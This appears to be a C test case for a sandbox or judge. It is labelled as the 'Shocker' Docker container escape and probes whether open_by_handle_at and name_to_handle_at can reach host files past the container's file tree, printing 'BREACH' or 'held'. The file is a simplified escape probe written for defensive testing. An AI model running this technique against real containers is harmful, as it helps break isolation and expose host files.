/* attack: opens files of the host by their handle, past the file tree
 * expect: AC
 * exploit: Shocker, the first well-known way out of a Docker container
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
int main(void) {
    struct { struct file_handle h; unsigned char data[64]; } f = {{.handle_bytes = 8, .handle_type = 1}, {0}};
    int mount;
    int top = open("/", O_RDONLY);
    unsigned inode = 2;
    memcpy(f.h.f_handle, &inode, 4);
    if (open_by_handle_at(top, &f.h, O_RDONLY) >= 0) puts("BREACH the root inode");
    f.h.handle_bytes = 64;
    if (name_to_handle_at(AT_FDCWD, "/etc/hostname", &f.h, &mount, 0) == 0) puts("BREACH a handle");
    puts("held");
}
